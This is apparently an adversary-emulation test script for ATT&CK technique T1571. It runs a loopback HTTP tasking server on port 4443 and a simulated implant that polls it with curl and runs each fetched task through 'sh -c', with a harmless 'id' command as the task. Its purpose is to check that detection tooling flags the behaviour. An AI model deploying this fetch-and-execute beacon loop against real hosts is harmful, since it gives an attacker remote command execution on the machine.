# technique: T1571
# tactic: command-and-control
# name: Implant polls an HTTP C2 served by python http.server on port 4443
# expect: detected
. "$EMULATION_LIB"
need python3 curl timeout ss
loopback_up
# Operators stand up a quick HTTP tasking server on an unusual port (4443, 8081, 8888 ...) so that
# the traffic is neither on the proxied port 80 nor inspected like 443. The implant polls it with
# curl, runs the task and polls again.
mkdir -p c2/task
printf 'id\n' > c2/task/a1f3
timeout 9 python3 -m http.server 4443 --bind 127.0.0.1 --directory c2 >/dev/null 2>&1 &
server=$!
i=0; until ss -ltn | grep -q ':4443 '; do i=$((i+1)); [ $i -lt 50 ] || exit 1; sleep 0.1; done
for beacon in 1 2 3; do
	task=$(curl -s --max-time 2 http://127.0.0.1:4443/task/a1f3) || task=
	[ -n "$task" ] && sh -c "$task" >/dev/null
	sleep 0.2
done
kill "$server" 2>/dev/null || true
wait "$server" 2>/dev/null || true
